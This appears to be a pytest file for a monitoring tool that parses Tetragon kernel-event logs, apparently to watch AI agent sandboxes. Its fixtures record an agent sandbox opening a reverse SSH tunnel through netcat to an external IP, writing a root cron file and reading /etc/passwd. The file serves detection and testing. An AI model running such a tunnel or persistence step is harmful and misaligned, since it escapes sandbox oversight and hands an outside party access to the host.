"""Tetragon JSON export → process, network and file events."""
import json

from vigiles.events import File, Network, Process
from vigiles.sources import ReadError, detect, read_paths

POD = {"namespace": "agents", "name": "sbx-7f3a9c", "container": {"id": "containerd://3ad8f1c2b7e1", "name": "agent",
                                                                    "image": {"name": "lab/agent:1"}}}
PARENT = {"exec_id": "cGFyZW50", "pid": 48190, "uid": 1000, "cwd": "/workspace/repo", "binary": "/bin/bash",
          "arguments": "-c ./scripts/sync_cache.sh", "flags": "execve clone"}
EXEC = {
    "process_exec": {
        "process": {"exec_id": "cmwtbm9kZTo0ODIxMQ==", "pid": 48211, "uid": 1000, "cwd": "/workspace/repo",
                    "binary": "/usr/bin/ssh",
                    "arguments": "-o \"ProxyCommand=nc %h %p\" -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443",
                    "flags": "execve clone", "start_time": "2025-12-01T02:01:37.418452863Z", "auid": 4294967295,
                    "pod": POD, "docker": "3ad8f1c2b7e1", "parent_exec_id": "cGFyZW50", "tid": 48211},
        "parent": PARENT,
    },
    "node_name": "rl-node-0417",
    "time": "2025-12-01T02:01:37.418452863Z",
}
CONNECT = {
    "process_kprobe": {
        "process": {"exec_id": "cmwtbm9kZTo0ODIxMQ==", "pid": 48211, "uid": 1000, "binary": "/usr/bin/ssh",
                    "arguments": "-fN -R 2222:localhost:22 cache@185.220.101.47", "pod": POD},
        "parent": PARENT,
        "function_name": "tcp_connect",
        "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                               "saddr": "10.42.17.9", "daddr": "185.220.101.47", "sport": 51544, "dport": 443,
                               "cookie": "18446628460183862592", "state": "TCP_SYN_SENT"}}],
        "action": "KPROBE_ACTION_POST", "policy_name": "monitor-network",
    },
    "node_name": "rl-node-0417",
    "time": "2025-12-01T02:01:38.000000000Z",
}
FILE_WRITE = {
    "process_kprobe": {
        "process": {"pid": 48300, "uid": 0, "binary": "/usr/bin/tee", "arguments": "/etc/cron.d/sync"},
        "function_name": "security_file_permission",
        "args": [{"file_arg": {"path": "/etc/cron.d/sync", "permission": "-rw-r--r--"}}, {"int_arg": 2}],
        "action": "KPROBE_ACTION_POST", "policy_name": "file-monitoring",
    },
    "node_name": "rl-node-0417", "time": "2025-12-01T02:01:40Z",
}
FILE_READ = {**FILE_WRITE, "process_kprobe": {**FILE_WRITE["process_kprobe"],
                                              "args": [{"file_arg": {"path": "/etc/passwd"}}, {"int_arg": 4}]}}
EXIT = {"process_exit": {"process": {"pid": 48211, "binary": "/usr/bin/ssh"}, "signal": "SIGKILL", "status": 0},
        "node_name": "rl-node-0417", "time": "2025-12-01T02:05:00Z"}


def _read(tmp_path, lines):
    path = tmp_path / "tetragon.log"
    path.write_text("\n".join(lines) + "\n")
    return path, list(read_paths([path]))


def test_detected_by_content(tmp_path):
    path, _ = _read(tmp_path, [json.dumps(EXEC)])
    assert detect(path).name == "tetragon"
    path, _ = _read(tmp_path, [json.dumps(CONNECT)])
    assert detect(path).name == "tetragon"


def test_exec_connect_and_file_mapping(tmp_path):
    _, items = _read(tmp_path, [json.dumps(x) for x in (EXEC, CONNECT, FILE_WRITE, FILE_READ, EXIT)])
    assert [type(i) for i in items] == [Process, Network, File]
    proc, net, file = items
    assert proc.argv == ["/usr/bin/ssh", "-o", "ProxyCommand=nc %h %p", "-fN", "-R", "2222:localhost:22",
                         "cache@185.220.101.47", "-p", "443"]
    assert (proc.pid, proc.ppid, proc.exe, proc.cwd, proc.user) == (48211, 48190, "/usr/bin/ssh", "/workspace/repo", "1000")
    assert (proc.host, proc.sandbox) == ("rl-node-0417", "agents/sbx-7f3a9c")
    assert proc.extra["parent_exe"] == "/bin/bash" and proc.extra["parent_cmdline"] == "/bin/bash -c ./scripts/sync_cache.sh"
    assert proc.extra["container_id"] == "containerd://3ad8f1c2b7e1"
    assert (net.src, net.sport, net.dst, net.dport, net.proto, net.direction, net.pid) == (
        "10.42.17.9", 51544, "185.220.101.47", 443, "tcp", "outbound", 48211)
    assert net.extra["tetragon_hook"] == "tcp_connect" and net.extra["tetragon_policy"] == "monitor-network"
    assert (file.path, file.op, file.pid) == ("/etc/cron.d/sync", "write", 48300)


def test_unbalanced_quotes_fall_back_to_whitespace(tmp_path):
    broken = json.loads(json.dumps(EXEC))
    broken["process_exec"]["process"]["arguments"] = "-c \"echo hi"
    _, (proc,) = _read(tmp_path, [json.dumps(broken)])
    assert proc.argv == ["/usr/bin/ssh", "-c", "\"echo", "hi"]


def test_malformed_lines_are_reported_and_neighbours_read(tmp_path):
    no_pid = json.loads(json.dumps(EXEC))
    del no_pid["process_exec"]["process"]["pid"]
    no_time = json.loads(json.dumps(EXEC))
    del no_time["time"], no_time["process_exec"]["process"]["start_time"]
    _, items = _read(tmp_path, [json.dumps(EXEC), "{\"process_exec\": ", json.dumps(no_pid), json.dumps(no_time),
                                json.dumps({"something_else": {}, "time": "2025-12-01T00:00:00Z"}), json.dumps(CONNECT)])
    errors = [(i.line, i.message) for i in items if isinstance(i, ReadError)]
    assert [line for line, _ in errors] == [2, 3, 4, 5]
    assert "not valid JSON" in errors[0][1] and "process.pid" in errors[1][1] and "time" in errors[2][1]
    assert "no known event kind" in errors[3][1]
    assert [type(i) for i in items if not isinstance(i, ReadError)] == [Process, Network]
